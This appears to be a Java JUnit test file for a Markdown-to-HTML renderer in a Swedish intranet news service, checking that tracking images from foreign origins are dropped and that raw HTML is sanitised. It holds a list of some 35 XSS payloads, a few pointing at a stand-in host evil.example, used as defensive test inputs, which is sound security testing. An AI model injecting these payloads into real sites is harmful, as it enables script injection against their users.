package se.budkavle.news;

import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

import static org.assertj.core.api.Assertions.assertThat;

class MarkdownTests {

	private static final NewsProperties PROPERTIES = new NewsProperties(Duration.ofSeconds(30), 20, 200,
			java.util.List.of("https://intranat.stad.se"), org.springframework.util.unit.DataSize.ofMegabytes(5), 2000,
			"markdown-tests-attachment-secret", Duration.ofHours(1));

	private final Markdown markdown = new Markdown(PROPERTIES, new ImageOrigins(PROPERTIES));

	@org.junit.jupiter.api.Test
	void imagesComeOnlyFromTheHubOrAnAllowedIntranetOriginSoNoneCanTrackReaders() {
		String html = this.markdown.render("""
				![pixel](http://tracker.example/track.png) ![pixel](https://intranat.stad.se.evil.example/t.png)
				![proto](//tracker.example/t.png) ![ok](https://intranat.stad.se/bilder/jul.png) ![own](/api/v1/x.png)
				<img src="https://tracker.example/raw.png" alt="raw">""").html();
		org.assertj.core.api.Assertions.assertThat(html)
			.doesNotContain("tracker.example")
			.doesNotContain("evil.example")
			.contains("src=\"https://intranat.stad.se/bilder/jul.png\"")
			.contains("src=\"/api/v1/x.png\"");
	}

	static final List<String> XSS = List.of("<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
			"<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<svg onload=alert(1)>",
			"<body onload=alert(1)>", "<iframe src=\"https://evil.example\"></iframe>",
			"<a href=\"javascript:alert(1)\">klick</a>", "<a href=\"JaVaScRiPt:alert(1)\">klick</a>",
			"<a href=\"jav&#x09;ascript:alert(1)\">klick</a>", "[klick](javascript:alert(1))",
			"[klick](JAVASCRIPT:alert(1))", "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
			"![bild](javascript:alert(1))", "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
			"<div style=\"background:url(javascript:alert(1))\">x</div>",
			"<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">falsk inloggning</p>",
			"<style>body{display:none}</style>", "<object data=\"https://evil.example/x.swf\"></object>",
			"<embed src=\"https://evil.example/x.swf\">", "<form action=\"https://evil.example\"><input name=p></form>",
			"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
			"<link rel=stylesheet href=\"https://evil.example/x.css\">", "<base href=\"https://evil.example/\">",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
			"<details open ontoggle=alert(1)>", "<a href=\"https://stad.se\" onclick=\"alert(1)\">stad</a>",
			"<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
			"<img src=`x`onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
			"<a href=\"vbscript:msgbox(1)\">x</a>", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><script>alert(1)</script></textarea>");

	@ParameterizedTest
	@FieldSource("XSS")
	void noScriptHandlerDangerousUrlFrameOrStyleReachesTheHtml(String payload) {
		String html = this.markdown.render("Före\n\n" + payload + "\n\nEfter " + payload).html().toLowerCase();
		assertThat(html).doesNotContain("<script", "<iframe", "<object", "<embed", "<style", "<form", "<input",
				"<meta", "<link", "<base", "<svg", "<math", "<video", "<source", "<textarea", "<details", "style=",
				"javascript:", "vbscript:", "data:", "background=");
		assertThat(html).doesNotContainPattern("\\son[a-z]+\\s*=");
		assertThat(html).contains("<p>före</p>");
	}

	@Test
	void thereAreAtLeastTwentyPayloads() {
		assertThat(XSS).hasSizeGreaterThanOrEqualTo(20);
	}

	@Test
	void markdownBecomesStructuredHtml() {
		String html = this.markdown.render("""
				# Rubrik

				Text med **fet** och *kursiv* stil och [en länk](https://stad.se).

				- ett
				- två

				| a | b |
				| - | - |
				| 1 | 2 |

				Se https://start.stockholm
				""").html();
		assertThat(html).contains("<h1>Rubrik</h1>", "<strong>fet</strong>", "<em>kursiv</em>", "<li>ett</li>",
				"<table>", "<td>1</td>");
		assertThat(html).contains("href=\"https://stad.se\"").contains("rel=\"nofollow noopener noreferrer\"");
		assertThat(html).contains("href=\"https://start.stockholm\"");
	}

	@Test
	void theExcerptIsPlainTextWithoutMarkupOrRawHtml() {
		var rendered = this.markdown.render("# Nytt schema\n\nFrån **måndag** gäller <b>nya</b> tider.\n\n<script>x()</script>");
		assertThat(rendered.excerpt()).isEqualTo("Nytt schema Från måndag gäller nya tider.");
	}

	@Test
	void aLongExcerptIsCutAtAWordWithAnEllipsis() {
		String excerpt = this.markdown.render("ord ".repeat(200)).excerpt();
		assertThat(excerpt).hasSizeLessThanOrEqualTo(200).endsWith("ord…");
	}
}
